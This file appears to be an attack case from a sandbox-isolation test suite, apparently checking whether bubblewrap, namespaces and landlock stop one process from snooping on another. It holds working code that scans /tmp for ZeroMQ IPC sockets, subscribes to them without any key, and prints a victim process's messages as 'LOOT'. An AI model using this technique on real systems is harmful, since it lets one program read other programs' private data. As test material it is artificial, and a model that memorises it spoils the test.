# /// attack
# exercise = "control-flow-vector"
# defended-by = ["bubblewrap", "namespaces", "landlock"]
# victim = true
# seconds = 4.0
# once = true
# ///

# %% name="function"
import contextlib
import os
import time

import zmq

# A subscriber needs no key. The victim prints for two seconds.
context = zmq.Context()
subscriber = context.socket(zmq.SUB)
subscriber.subscribe(b"")
own = set()
end = time.monotonic() + 1.5
while time.monotonic() < end:
    paths = set()
    for folder, _, files in os.walk("/tmp/@mark@"):
        paths |= {os.path.join(folder, name) for name in files if name.startswith("k")}
    for path in paths - own:
        with contextlib.suppress(zmq.ZMQError):
            subscriber.connect(f"ipc://{path}")
    own |= paths
    if subscriber.poll(100):
        text = b" ".join(subscriber.recv_multipart()).decode(errors="replace")
        if "victim" in text:
            print("LOOT:", text[text.index("victim") :][:40])
            break
subscriber.close(0)
context.term()
